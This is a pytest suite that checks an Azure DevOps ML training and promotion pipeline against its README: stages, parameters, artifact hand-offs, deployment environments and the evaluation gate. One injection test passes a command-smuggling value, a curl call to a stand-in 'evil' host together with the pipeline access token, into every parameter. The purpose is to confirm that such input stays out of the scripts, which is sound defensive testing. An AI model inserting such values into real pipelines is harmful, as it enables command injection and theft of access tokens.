"""The pipeline that delivers models: what deploy/README.md promises, and what deploy/ml can do."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox.azure_devops import tasks
from sandbox.azure_devops.compiler import compile as compile_pipeline
from sandbox.azure_devops.expressions import Ran, Scope, evaluate, truth
from sandbox.azure_devops.plan import BadPipeline, Plan, PlanJob, PlanStage, PlanStep, Result
from sandbox.azure_devops.release_definitions import read

ROOT = Path(__file__).parents[1]
README = (ROOT / "deploy" / "README.md").read_text(encoding="utf-8")
NINE = ["prepare", "workspace", "train", "evaluate", "register", "image", "publish", "qa", "prod"]
SEVEN = [name for name in NINE if name not in {"train", "register"}]


def pipeline(**parameters: str) -> Plan:
    return compile_pipeline(ROOT, "deploy/pipelines/azure-pipelines.yml", parameters, {})


def steps(plan: Plan) -> Iterator[tuple[PlanStage, PlanStep]]:
    return ((stage, step) for stage in plan.stages for job in stage.jobs for step in job.steps)


def rows(heading: str) -> list[list[str]]:
    """The rows of the README's table below a heading."""
    table = README.split(f"## {heading}\n")[1].split("\n## ")[0]
    cells = [[cell.strip().strip("`") for cell in line.strip("|").split("|")] for line in table.splitlines() if line.startswith("| `")]
    assert cells
    return cells


def test_a_training_run_has_the_nine_stages_that_the_readme_names() -> None:
    plan = pipeline(action="train")

    assert [[stage.name, stage.title] for stage in plan.stages] == [row[:2] for row in rows("The run")]
    assert [stage.name for stage in plan.stages] == NINE


def test_a_promotion_leaves_out_training_and_registering() -> None:
    plan = pipeline(action="promote", version="3")

    assert [stage.name for stage in plan.stages] == SEVEN


@pytest.mark.parametrize(("action", "all_of_them"), [("train", NINE), ("promote", SEVEN)])
def test_with_a_release_the_run_ends_with_publish_and_its_tag(action: str, all_of_them: list[str]) -> None:
    plan = pipeline(action=action, cd="release")

    assert [stage.name for stage in plan.stages] == [name for name in all_of_them if name not in {"qa", "prod"}]
    scripts = [step.inputs.get("script") for stage, step in steps(plan) if stage.name == "publish"]
    assert scripts[-1] == 'echo "##vso[build.addbuildtag]release"'
    assert not [step for _, step in steps(pipeline(action=action)) if "addbuildtag" in step.inputs.get("script", "")]


def test_the_release_deploys_as_the_stages_do() -> None:
    document = json.loads((ROOT / "deploy" / "pipelines" / "deploy-webservice.json").read_text(encoding="utf-8"))
    released, staged = read(document).stages, [stage for stage in pipeline().stages if stage.name in {"qa", "prod"}]

    def calls(job: PlanJob) -> list[tuple[str, list[str]]]:
        scripts = [step.inputs.get("inlineScript", step.inputs.get("script", "")) for step in job.steps]
        return [
            (found[1], re.findall(r"--[\w-]+", found[0])) for script in scripts for found in re.finditer(r"-m deploy\.ml\.(\w+).*", script)
        ]

    assert [(one.name, one.job.title) for one in released] == [(one.title, one.jobs[0].title) for one in staged]
    assert [one.job.timeout_minutes for one in released] == [one.jobs[0].timeout_minutes for one in staged]
    assert [calls(one.job) for one in released] == [calls(one.jobs[0]) for one in staged]
    assert [dict(read(document).variables)] == [{"serviceConnection": "azure-ml-delivery"}]


def test_the_parameters_are_those_of_the_readme() -> None:
    plan = pipeline()

    assert dict(plan.parameters) == {name: default for name, default, _ in rows("Parameters of a run")}


def test_an_action_is_train_or_promote() -> None:
    with pytest.raises(BadPipeline, match="The 'action' parameter value 'drop' is not a valid value"):
        pipeline(action="drop")


def test_a_merge_to_main_starts_it_where_models_depend_on_the_change() -> None:
    plan = pipeline()

    assert plan.starts_on_push("refs/heads/main", ["deploy/ml/train.py"])
    assert plan.starts_on_push("refs/heads/main", ["README.md", "callboard.toml"])
    assert not plan.starts_on_push("refs/heads/main", ["bot/app.py", "deploy/bot/manifest.json"])
    assert not plan.starts_on_push("refs/heads/feature", ["deploy/ml/train.py"])


def started(plan: Plan, verdict: str, *, evaluated: Result = Result.SUCCEEDED) -> list[str]:
    """The stages that run when all goes well but for the verdict."""
    ran: dict[str, Ran] = {}
    for stage in plan.stages:
        scope = Scope(dependencies={name: ran[name] for name in stage.depends_on})
        if not truth(evaluate(stage.condition, scope)):
            ran[stage.name] = Ran(Result.SKIPPED)
        elif stage.name == "evaluate":
            ran[stage.name] = Ran(evaluated, {"evaluate.judge.verdict": verdict})
        else:
            ran[stage.name] = Ran(Result.SUCCEEDED)
    return [name for name, how in ran.items() if how.result is not Result.SKIPPED]


@pytest.mark.parametrize(("action", "all_of_them"), [("train", NINE), ("promote", SEVEN)])
def test_only_a_verdict_of_pass_goes_beyond_evaluate(action: str, all_of_them: list[str]) -> None:
    plan = pipeline(action=action)
    until_evaluate = all_of_them[: all_of_them.index("evaluate") + 1]

    assert started(plan, "pass") == all_of_them
    assert started(plan, "kept") == until_evaluate
    assert started(plan, "") == until_evaluate
    assert started(plan, "fail", evaluated=Result.FAILED) == until_evaluate
    assert started(plan, "pass", evaluated=Result.FAILED) == until_evaluate


def test_qa_and_prod_are_deployments_to_their_environments() -> None:
    environments = {stage.name: job.environment for stage in pipeline().stages for job in stage.jobs if job.environment}

    assert environments == {"qa": "qa", "prod": "prod"}


@pytest.mark.parametrize("action", ["train", "promote"])
def test_what_people_chose_reaches_scripts_through_the_environment_alone(action: str) -> None:
    evil = '"; curl evil; #$(System.AccessToken)'

    plan = pipeline(action=action, model=evil, version=evil, settings=evil, requestedBy=evil, requestId=evil)

    for _, step in steps(plan):
        assert evil not in "".join((*step.inputs.values(), step.title, step.condition, *step.env)), step.title
    assert [step for _, step in steps(plan) if evil in step.env.values()]


@pytest.mark.parametrize("action", ["train", "promote"])
def test_every_script_and_option_that_it_calls_is_there(action: str) -> None:
    called: set[str] = set()
    for _, step in steps(pipeline(action=action)):
        script = step.inputs.get("script", step.inputs.get("inlineScript", ""))
        for module, arguments in re.findall(r"-m deploy\.ml\.(\w+)([^\n]*)", script):
            source = (ROOT / "deploy" / "ml" / f"{module}.py").read_text(encoding="utf-8")
            for option in re.findall(r"--[\w-]+", arguments):
                assert f'"{option}"' in source, f"deploy.ml.{module} {option}"
            called.add(module)

    assert called == {stage.name for stage in pipeline(action=action).stages} - {"publish"}
    assert list((ROOT / "deploy" / "ml" / "checks").glob("test_*.py"))


@pytest.mark.parametrize("action", ["train", "promote"])
def test_every_task_is_one_that_the_agent_knows(action: str) -> None:
    assert not [step.task for _, step in steps(pipeline(action=action)) if tasks.find(step.task) is None]


@pytest.mark.parametrize("action", ["train", "promote"])
def test_a_stage_takes_over_only_what_an_earlier_one_hands_on(action: str) -> None:
    handed_on: dict[str, str] = {}
    for stage, step in steps(pipeline(action=action)):
        if step.task == "DownloadBuildArtifacts@1":
            assert handed_on[step.inputs["artifactName"]] != stage.name
        if step.task == "PublishBuildArtifacts@1":
            handed_on[step.inputs["ArtifactName"]] = stage.name

    expected = {"training": "train", "evaluation": "evaluate", "model": "register", "image": "image", "delivery": "publish"}
    expected |= {"qa": "qa", "prod": "prod"}
    if action == "promote":
        del expected["training"]
        expected["model"] = "evaluate"
    assert handed_on == expected


@pytest.mark.parametrize("artifact", ["evaluation", "qa", "prod"])
def test_what_a_failed_stage_has_found_out_is_handed_on_too(artifact: str) -> None:
    (publish,) = (step for _, step in steps(pipeline()) if step.inputs.get("ArtifactName") == artifact)

    assert publish.condition == "always()"


def test_every_job_that_runs_python_checks_out_and_locks_its_environment_first() -> None:
    for stage in pipeline().stages:
        for job in stage.jobs:
            used = [index for index, step in enumerate(job.steps) if "$PYTHON" in "".join(step.inputs.values())]
            prepared = [index for index, step in enumerate(job.steps) if step.inputs.get("script") == "python -m deploy.ml.prepare"]
            assert job.steps[0].task == "checkout" or not used
            assert not used or prepared[0] < used[0], stage.name
